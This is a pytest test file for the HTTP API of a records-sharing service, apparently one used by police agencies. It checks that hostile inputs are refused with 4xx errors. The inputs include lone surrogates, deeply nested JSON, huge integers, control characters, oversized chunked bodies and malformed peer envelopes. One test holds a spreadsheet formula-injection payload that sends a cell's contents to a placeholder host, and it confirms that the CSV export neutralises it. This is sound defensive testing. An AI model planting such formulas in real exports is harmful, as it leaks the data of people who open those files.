"""Hostile input over HTTP (issue 9, findings C1–C4 and D1): always a 4xx, never a 500.

Each test failed before its fix: a 500 (the ``client`` fixture re-raises server errors),
a 400 where a 413 was due, or a record stored that should have been refused.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient

from alianza.exchange.models import Peer
from alianza.node.context import Node
from tests.conftest import Factory
from tests.web.test_api_basics import PERSON, RULES, auth

SURROGATE = "\ud800"
SEIZURE = {
    "reference": "EC-GYE-2024-000123",
    "date": "2024-05-02",
    "country": "EC",
    "place": "Puerto de Guayaquil",
    "substance": "cocaína",
    "quantity_kg": 120.5,
}


def _post_json(client: TestClient, path: str, body: Any, token: str | None = None) -> Any:
    # json.dumps escapes a lone surrogate as \ud800: the server's parser gives it back.
    headers = {"content-type": "application/json", **(auth(token) if token else {})}
    return client.post(path, content=json.dumps(body), headers=headers)


def _problem(response: Any, status: int = 422) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    return body


def _stored(client: TestClient, token: str) -> list[Any]:
    found: list[Any] = client.get("/api/v1/records", headers=auth(token)).json()
    return found


# --- C1: a lone surrogate in a kind, an FtM schema, property name or id ------------------


def test_lone_surrogate_in_kind_is_a_422_naming_the_field(
    client: TestClient, factory: Factory
) -> None:
    _, token = factory.user("ana", "analyst")
    r = _post_json(
        client, "/api/v1/records", {"kind": SURROGATE, "data": PERSON, "rules": RULES}, token
    )
    problem = _problem(r)
    assert problem["errors"][0]["field"] == "kind"
    assert "\\ud800" in problem["detail"]  # echoed escaped, so the body can be encoded


@pytest.mark.parametrize(
    ("entity", "field"),
    [
        ({"schema": SURROGATE, "properties": {}}, "schema"),
        ({"schema": "Person", "properties": {SURROGATE: ["x"]}}, "properties"),
        (
            {"schema": "Person", "id": SURROGATE, "properties": {"firstName": ["Ana"]}},
            "id",
        ),
        (
            {
                "schema": "Person",
                "properties": {"firstName": ["Ana"]},
                "alianza": {"kind": SURROGATE},
            },
            "alianza.kind",
        ),
        ({"schema": "Person", "properties": {"firstName": [SURROGATE]}}, "firstName"),
    ],
)
def test_lone_surrogate_in_an_ftm_line_is_a_422(
    client: TestClient, factory: Factory, entity: dict[str, Any], field: str
) -> None:
    _, token = factory.user("ana", "analyst")
    r = client.post(
        "/api/v1/records/import",
        params={"purpose": "investigación", "legal_basis": "Ley 20.000"},
        content=json.dumps(entity).encode(),
        headers=auth(token),
    )
    problem = _problem(r)
    assert problem["detail"].startswith("línea 1: ") and field in problem["detail"]
    assert _stored(client, token) == []


# --- C2: nesting depth ----------------------------------------------------------------


def test_ftm_line_nested_5000_deep_is_a_422(client: TestClient, factory: Factory) -> None:
    _, token = factory.user("ana", "analyst")
    line = '{"schema": "Person", "properties": ' + "[" * 5000 + "]" * 5000 + "}"
    r = client.post(
        "/api/v1/records/import",
        params={"purpose": "investigación", "legal_basis": "Ley 20.000"},
        content=line.encode(),
        headers=auth(token),
    )
    assert "anidado" in _problem(r)["detail"]


def test_record_data_nested_deep_is_a_422(client: TestClient, factory: Factory) -> None:
    _, token = factory.user("ana", "analyst")
    deep: Any = "x"
    for _ in range(600):
        deep = {"a": deep}
    r = _post_json(
        client,
        "/api/v1/records",
        {"kind": "person", "data": {**PERSON, "notes": deep}, "rules": RULES},
        token,
    )
    assert "anidado" in _problem(r)["detail"]


# --- C3: integer query parameters bounded -----------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/records?offset=9223372036854775808",
        "/api/v1/records?limit=9223372036854775808",
        "/api/v1/audit?after=9223372036854775808",
        "/api/v1/audit?limit=9223372036854775808",
    ],
)
def test_huge_integer_query_parameters_are_422(
    client: TestClient, factory: Factory, path: str
) -> None:
    _, token = factory.user("sara", "supervisor")
    problem = _problem(client.get(path, headers=auth(token)))
    assert "grande" in problem["detail"]


# --- C4: text, dates and numbers that were stored ------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "Ana\x00",
        "Ana\u202eanA",
        "\u200b\u200c\u200d",
        "\ufeff",
        "Ana\x07",
        "Ana\nMaría",
        "A" + "\u0301" * 119,
    ],
)
def test_hostile_names_are_refused_and_nothing_stored(
    client: TestClient, factory: Factory, name: str
) -> None:
    _, token = factory.user("ana", "analyst")
    data = {**PERSON, "given_names": name}
    r = _post_json(
        client, "/api/v1/records", {"kind": "person", "data": data, "rules": RULES}, token
    )
    assert _problem(r)["errors"][0]["field"] == "data.given_names"
    assert _stored(client, token) == []


@pytest.mark.parametrize("birth", ["2999-01-01", "0001-01-01", 0, "0", "1899-12-31"])
def test_implausible_birth_dates_are_refused(
    client: TestClient, factory: Factory, birth: object
) -> None:
    _, token = factory.user("ana", "analyst")
    data = {**PERSON, "birth_date": birth}
    r = _post_json(
        client, "/api/v1/records", {"kind": "person", "data": data, "rules": RULES}, token
    )
    assert _problem(r)["errors"][0]["field"] == "data.birth_date"
    assert _stored(client, token) == []


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"quantity_kg": "12"}, "data.quantity_kg"),
        ({"quantity_kg": True}, "data.quantity_kg"),
        ({"quantity_kg": "1e3"}, "data.quantity_kg"),
        ({"date": "2999-01-01"}, "data.date"),
    ],
)
def test_seizure_numbers_are_numbers_and_dates_have_happened(
    client: TestClient, factory: Factory, changes: dict[str, Any], field: str
) -> None:
    _, token = factory.user("ana", "analyst")
    data = {**SEIZURE, **changes}
    r = _post_json(
        client, "/api/v1/records", {"kind": "seizure", "data": data, "rules": RULES}, token
    )
    assert _problem(r)["errors"][0]["field"] == field
    assert _stored(client, token) == []


def test_review_date_is_a_strict_iso_date(client: TestClient, factory: Factory) -> None:
    _, token = factory.user("ana", "analyst")
    rules = {**RULES, "review_date": 0}
    r = _post_json(
        client, "/api/v1/records", {"kind": "person", "data": PERSON, "rules": rules}, token
    )
    assert _problem(r)["errors"][0]["field"] == "rules.review_date"


def test_review_date_in_the_past_is_refused_on_a_local_write(
    client: TestClient, factory: Factory
) -> None:
    _, token = factory.user("ana", "analyst")
    rules = {**RULES, "review_date": "1900-01-01"}
    r = _post_json(
        client, "/api/v1/records", {"kind": "person", "data": PERSON, "rules": rules}, token
    )
    assert _problem(r)["errors"][0]["field"] == "rules.review_date"


def test_csv_export_neutralises_formulas(client: TestClient, factory: Factory) -> None:
    ana, token = factory.user("ana", "analyst")
    formula = '=HYPERLINK("http://x.example/?q="&A1,"ver")'
    factory.record(ana, "person", {**PERSON, "notes": formula, "aliases": ["@Flaco", "+56"]})
    r = client.get("/api/v1/records/export", params={"format": "csv"}, headers=auth(token))
    assert r.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(r.text)))
    assert row["notes"] == "'" + formula
    assert row["aliases"] == "'@Flaco;+56"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_chunked_body_over_the_limit_is_413(client: TestClient, factory: Factory) -> None:
    _, token = factory.user("ana", "analyst")
    limit = client.app.state.node.settings.max_body_bytes  # type: ignore[attr-defined]
    chunk = b" " * (1024 * 1024)

    def body() -> Iterator[bytes]:  # no Content-Length: sent chunked
        for _ in range(limit // len(chunk) + 2):
            yield chunk

    for path in ("/api/v1/records", "/api/v1/records/import"):
        r = client.post(
            path, content=body(), headers={**auth(token), "content-type": "application/json"}
        )
        assert _problem(r, 413)["status"] == 413


def test_small_chunked_body_still_reaches_the_route(client: TestClient, factory: Factory) -> None:
    _, token = factory.user("ana", "analyst")
    payload = json.dumps({"kind": "person", "data": PERSON, "rules": RULES}).encode()

    def body() -> Iterator[bytes]:
        yield payload[:10]
        yield payload[10:]

    r = client.post(
        "/api/v1/records",
        content=body(),
        headers={**auth(token), "content-type": "application/json"},
    )
    assert r.status_code == 201, r.text


# --- D1: unauthenticated envelopes with a lone surrogate ------------------------------


def _peer(node: Node) -> str:
    with node.sessions() as s:
        s.add(
            Peer(
                node_id="ec-0123456789ab",
                country="EC",
                agency="PN",
                url="http://127.0.0.1:9",
                public_key="00" * 32,
                added_at=datetime.now(UTC),
            )
        )
        s.commit()
    return "ec-0123456789ab"


def _envelope(node: Node, **changes: Any) -> dict[str, Any]:
    envelope = {
        "sender": "ec-0123456789ab",
        "recipient": node.node_id,
        "type": "sync.pull",
        "ts": datetime.now(UTC).isoformat(),
        "nonce": "ab" * 16,
        "in_reply_to": "",
        "body": {"cursor": 0, "limit": 10, "acks": []},
    }
    envelope.update(changes)
    return {"envelope": envelope, "signature": "00" * 64}


@pytest.mark.parametrize(
    "changes",
    [
        {"sender": SURROGATE},
        {"sender": SURROGATE, "type": "query.hit"},
        {"type": SURROGATE},
        {"recipient": SURROGATE},
        {"body": {"cursor": SURROGATE}},
        {"body": {SURROGATE: 1}},
        {"type": "query.hit", "body": {"kind": "person", "values": {"given_names": SURROGATE}}},
        {"in_reply_to": SURROGATE},
        {"body": {"cursor": 2**70}},
    ],
)
def test_envelope_with_a_lone_surrogate_is_a_4xx(
    client: TestClient, node: Node, changes: dict[str, Any]
) -> None:
    _peer(node)
    r = _post_json(client, "/api/v1/exchange", _envelope(node, **changes))
    assert 400 <= r.status_code < 500, r.text
    assert r.json()["status"] == r.status_code
